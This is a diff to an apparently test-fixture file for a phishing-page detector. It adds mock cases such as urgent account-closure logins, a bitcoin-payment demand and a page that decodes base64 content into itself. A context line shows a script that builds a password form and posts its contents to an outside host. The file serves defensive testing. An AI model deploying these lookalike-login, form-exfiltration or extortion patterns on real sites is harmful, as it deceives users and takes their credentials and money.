@@ -45,6 +45,11 @@ const aims = site(
   `${heading}<div id="r"></div>${script(`const c={to:"${elsewhere}"};r.innerHTML='<form id="f">${password}</form>';fetch(c.to,{method:"POST",body:new FormData(f)})`)}`,
 )
 const still = site("has a form without an action", "PayPal: Log in", `<form>${password}</form>`)
+const unwraps = site(
+  "unwraps itself",
+  ours,
+  `${heading}${sentByScript(elsewhere, password)}${script(`document.body.innerHTML+=atob("${btoa("<p>Ferns grow on the pier, and moss.</p>".repeat(8))}")`)}`,
+)
 const given = site(
   "gives beside its form",
   ours,
@@ -75,6 +80,19 @@ export const takingCases: ReadonlyArray<readonly [rule: string, draft: GivenDraf
   ["institution-asks", site("is called after a house", "Skerry Bank", `<h1>Skerry Bank</h1>${form(card)}`)],
   ["account-under-name", site("an account under a name", "PayPal", late)],
   ["presses-to-pay-under-name", site("presses to pay under a name", "PayPal", late)],
+  [
+    "presses-without-name",
+    site(
+      "presses under no name",
+      "Members",
+      `<h1>Sign in</h1><p>Your account will be closed today.</p>${form(password, "/in")}`,
+    ),
+  ],
+  [
+    "presses-for-coins",
+    site("coins or else", ours, `${heading}<p>Your account will be closed today.</p><p>bc1q${"a".repeat(30)}</p>`),
+  ],
+  ["unwraps-itself", unwraps],
   ["script-to-paste", pastes],
   ["holds-for-call", held],
   ["holds-without-name", held],
@@ -106,4 +124,5 @@ export const takingMarks: ReadonlyArray<readonly [kind: string, draft: GivenDraf
   ["aims", aims],
   ["reads", aims],
   ["given", given],
+  ["unwraps", unwraps],
 ]
